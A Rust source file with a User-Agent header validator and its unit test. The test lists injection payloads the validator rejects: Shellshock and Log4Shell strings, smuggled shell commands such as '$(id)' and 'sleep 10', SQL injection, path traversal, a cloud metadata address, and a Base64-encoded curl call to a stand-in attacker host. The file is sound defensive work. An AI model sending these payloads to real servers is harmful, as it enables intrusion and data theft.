//! Does a user agent fit its grammar: products with versions, and comments in parentheses whose parts a semicolon separates?
//!
//! RFC 9110, section 10.1.5. A semicolon inside a comment separates no commands, and the names of devices are no commands.

/// A longer name, in bytes, with no version and no blank behind it is no product: it may be a payload in Base64.
const PRODUCT: usize = 24;

/// Does it fit? Costs one pass.
pub(super) fn fits(value: &[u8]) -> bool {
    let value = link(value).and_then(|link| value.strip_suffix(link)).unwrap_or(value).trim_ascii_end();
    let mut depth = 0_u32;
    let mut before = b' ';
    for (at, byte) in value.iter().enumerate() {
        let next = || value.get(at + 1).copied().unwrap_or(b' ');
        let starts_word = matches!(before, b' ' | b';' | b'(');
        let fits = match byte {
            // A call has no blank before its arguments.
            b'(' if starts_word || before == b')' => {
                depth += 1;
                true
            }
            b')' if depth > 0 => {
                depth -= 1;
                true
            }
            b';' => depth > 0,
            // A path, an option: what a command has behind it.
            b'/' | b'-' if starts_word => next() == b' ' || before == b'(' && is_network(value.get(at + 1..)),
            b':' if depth == 0 => next() != b'/',
            b'.' => before != b'.',
            b' ' | b'/' | b'-' | b'_' | b'~' | b'+' | b':' | b'@' | b',' | b'!' | b'*' | b'#' => true,
            _ => byte.is_ascii_alphanumeric(),
        };
        if !fits {
            return false;
        }
        before = *byte;
    }
    let is_one_word = || !value.iter().any(|byte| matches!(byte, b' ' | b'.' | b'('));
    depth == 0 && !(value.len() > PRODUCT && is_one_word())
}

/// `yacybot (/global; …)`, `yacybot (-global; …)`: one word, which names a network.
fn is_network(rest: Option<&[u8]>) -> bool {
    let word = rest.unwrap_or_default();
    let length = word.iter().take_while(|byte| byte.is_ascii_alphabetic()).count();
    length > 2 && word.get(length) == Some(&b';')
}

/// The address of a robot's page, which many write behind their comments.
pub(super) fn link(value: &[u8]) -> Option<&[u8]> {
    let at = memchr::memrchr(b' ', value)?;
    let (before, link) = (value.get(..at)?, value.get(at + 1..)?);
    let rest = link.strip_prefix(b"https://").or_else(|| link.strip_prefix(b"http://"))?;
    let is_plain = |pair: &[u8]| !matches!(pair, [b'.' | b'/', b'.' | b'/']);
    let is_usual = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_' | b'/');
    let fits = before.iter().any(|byte| matches!(byte, b'(' | b'/'))
        && rest.first().is_some_and(u8::is_ascii_alphabetic)
        && rest.iter().all(is_usual)
        && rest.windows(2).all(is_plain);
    fits.then_some(link)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn agents_are_told_from_payloads() {
        let rows: &[(&str, bool)] = &[
            ("Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0", true),
            ("Mozilla/5.0 (Linux; Android 7.0; GO 55303) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/9.0", true),
            ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", true),
            ("Dalvik/2.1.0 (Linux; U; Android 9; AT503 Build/PPR1)", true),
            ("curl/8.5.0", true),
            ("okhttp/4.9 (a (nested) comment) x/1", true),
            ("", true),
            ("yacybot (-global; amd64 Linux 5.10; java 11; Europe/en) http://yacy.net/bot.html", true),
            ("yacybot (/global; amd64 Linux 5.10; java 11; Europe/en) http://yacy.net/bot.html", true),
            ("x (-c; id)", false),
            ("x/1 (y) http://x.example/../a", false),
            ("x/1 (y) http://169.254.169.254/", false),
            ("Mozilla/5.0 (X11; cat /srv/x)", false),
            ("Mozilla/5.0 (X11; uname -a)", false),
            ("Mozilla/5.0; sleep 10", false),
            ("x) ; id", false),
            ("Mozilla/5.0 (X11", false),
            ("sleep(5)", false),
            ("() { :; }; echo x", false),
            ("${jndi:ldap://x/a}", false),
            ("Mozilla/5.0 (X11; $(id))", false),
            ("../../srv/x", false),
            ("http://x.example/", false),
            ("' or 1=1", false),
            ("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxl", false),
        ];
        for (value, expected) in rows {
            assert_eq!(fits(value.as_bytes()), *expected, "{value}");
        }
    }
}
